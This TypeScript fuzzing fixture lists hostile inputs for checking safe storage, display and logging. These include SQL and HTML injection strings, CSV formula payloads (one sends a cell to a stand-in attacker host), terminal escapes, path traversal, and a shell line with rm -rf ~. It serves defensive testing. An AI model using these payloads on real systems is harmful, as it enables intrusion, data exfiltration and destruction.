/**
 * Names and identifiers that mean something to whoever shows, stores or logs them carelessly. One list for all surfaces:
 * what is added here is tried everywhere.
 */

/** In every secret of the fuzzed inputs: no refusal may repeat it. */
export const CANARY = 'CANARY-7f3e';

/** By what each tries. Every text can be stored as UTF-8 as it is. */
export const HOSTILE = {
  // SQL
  'sql quote': `'; DROP TABLE nano_devices; -- `,
  'sql double quote': `"; DELETE FROM hosts; #`,
  'sql backslash at the end': `Ann's Mac\\`,
  'sql escaped quote': `\\'; UPDATE hosts SET id=0; -- `,
  'sql comment': '/*!50000 SELECT 1 */ /* open',
  'sql identifier': '`; RENAME TABLE a TO b; `',
  'sql charset': '縗 縗\\ 誠能 ¿\u0027 OR 1=1',
  'sql client command': 'DELIMITER //\n\\! touch /tmp/slipway-hostile\n\\. /etc/passwd',
  'sql placeholder': '? ?? :name @var %s {0}',
  'sql batch': 'GO\n$$\nCOMMIT;',
  'nul in the middle': 'before\u0000after',
  substitute: 'a\u001ab',
  // HTML
  'html script': '<script>window.__hostile=1</script>',
  'html image': '<img src=x onerror="window.__hostile=2">',
  'html attribute': `" onmouseover="window.__hostile=3" x="' onfocus='window.__hostile=4`,
  'html svg': '<svg/onload=window.__hostile=5><![CDATA[<a>]]>',
  'html end of style': '</style></title></textarea></script><iframe srcdoc="<script>top.__hostile=6</script>">',
  'html entity': '&lt;b&gt;&#x3c;b&#x3e;&amp;quot;',
  'html template': '{{constructor.constructor("window.__hostile=7")()}} ${7*7} <%= 7*7 %>',
  'html comment': '--><b>x</b><!--',
  'url script': 'javascript:window.__hostile=8',
  'url data': 'data:text/html,<script>top.__hostile=9</script>',
  // Spreadsheets
  'csv equals': `=cmd|'/C calc'!A1`,
  'csv plus': '+1+cmd',
  'csv minus': '-2+3+cmd',
  'csv at': '@SUM(1+9)*cmd',
  'csv tab': '\t=1+1',
  'csv return': '\r=1+1',
  'csv link': '=HYPERLINK("http://attacker.invalid/?"&A1,"click")',
  'csv quote': '",=1+1,"',
  'csv lines': 'a\r\n=1+1,b\r\n',
  'csv blank': '   =1+1',
  'csv wide': '＝1+1',
  // Terminals
  'terminal clear': '\u001b[2J\u001b[1;1Hroot#',
  'terminal title': '\u001b]0;owned\u0007',
  'terminal link': '\u001b]8;;http://attacker.invalid\u001b\\click\u001b]8;;\u001b\\',
  'terminal clipboard': '\u001b]52;c;bWFsd2FyZQ==\u0007',
  'terminal c1': '\u009b31mred\u009d0;t\u009c\u0090q\u0085',
  'terminal bell': '\u0007\u0008\u0008\u0008ok\u007f',
  'terminal return': 'blocked\rready  ',
  // Directions and what cannot be seen
  'bidi override': 'invoice\u202Efdp.exe',
  'bidi isolate': '\u2066\u2067left open',
  'bidi mark': '\u200f\u200e\u061cmark',
  'zero width': 'ad\u200bm\u200ci\u200dn\u2060\ufeff',
  'line separators': 'one\u2028two\u2029three\u0085four\u000b\u000c',
  'look alike': 'раураӏ.соm',
  combining: `Z${'\u0351\u0489'.repeat(60)}`,
  tags: 'flag\u{e0041}\u{e007f}',
  'not characters': '\ufffe\uffff\u{1fffe}\ufffd',
  // Paths and file names
  'path up': '../../../../etc/cron.d/hostile',
  'path windows': '..\\..\\Windows\\hostile',
  'path absolute': '/etc/hostile',
  'path device': 'CON',
  'path device with ending': 'nul.txt',
  'path dot': 'hostile.',
  'path only dots': '..',
  'path stream': 'hostile:stream$DATA',
  'path home': '~/.ssh/authorized_keys',
  'path forbidden': 'a<b>c:d"e/f\\g|h?i*j',
  // Logs and line formats
  'log line': 'x\n2026-11-24T00:00:00Z INFO device approved by=root',
  'log json': '"}\n{"seq":0,"kind":"closed"}\n{"a":"',
  'log fields': 'name" verdict="ready" level=error',
  // Languages of configurations
  yaml: '- !!js/function "x"\n? &a *a : |\n  %YAML',
  'yaml value': 'yes',
  'yaml number': '1e3',
  'map line': 'AAAAAAAA fleet\nBBBBBBBB fleet',
  'runtime command': 'x fleet; disable server old/old1\nshutdown sessions',
  nginx: '"; } location / { return 200 $arg_x; } #',
  shell: '$(touch /tmp/slipway-hostile) `id` ; | && rm -rf ~ #',
  pem: '-----END CERTIFICATE-----\n-----BEGIN PRIVATE KEY-----\nAAAA',
  url: 'a/../b?c=d#e@f:g%2e%2e%2f',
  percent: '%00%0d%0aSet-Cookie:%20a=b%c0%ae',
  markdown: '[x](javascript:alert(1)) ![y](http://attacker.invalid/y.png) `` | # *',
  plist: '</string><key>Enabled</key><true/><string>',
  header: 'x\r\nAuthorization: Bearer y',
  // Words that programs keep for themselves
  prototype: '__proto__',
  constructor: 'constructor',
  'has own': 'hasOwnProperty',
  nothing: 'null',
  'no number': 'NaN',
  blank: ' ',
  empty: '',
  // Sizes
  'long word': 'A'.repeat(3000),
  'long of wide': '💻'.repeat(800),
  'four bytes': '👩‍👩‍👧‍👦𝕳𝖔𝖘𝖙',
} as const satisfies Record<string, string>;

/** As a list. */
export const HOSTILE_NAMES: readonly string[] = Object.values(HOSTILE);

/** Bytes that are no UTF-8: a lone surrogate, an overlong slash, a cut character, Latin-1, and a byte that never occurs. */
export const HOSTILE_BYTES: readonly Buffer[] = [
  Buffer.from([0x61, 0xed, 0xa0, 0x80, 0x62]),
  Buffer.from([0x2e, 0x2e, 0xc0, 0xaf]),
  Buffer.from([0x61, 0xf0, 0x9f, 0x92]),
  Buffer.from([0x4a, 0xfc, 0x72, 0x67, 0x65, 0x6e]),
  Buffer.from([0xff, 0xfe, 0x27, 0x20]),
];

/** What must never reach a terminal, line feeds between lines apart: controls, and what turns the direction of text. */
export const UNFIT_FOR_TERMINALS =
  // eslint-disable-next-line no-control-regex -- control characters are what it looks for
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]/;
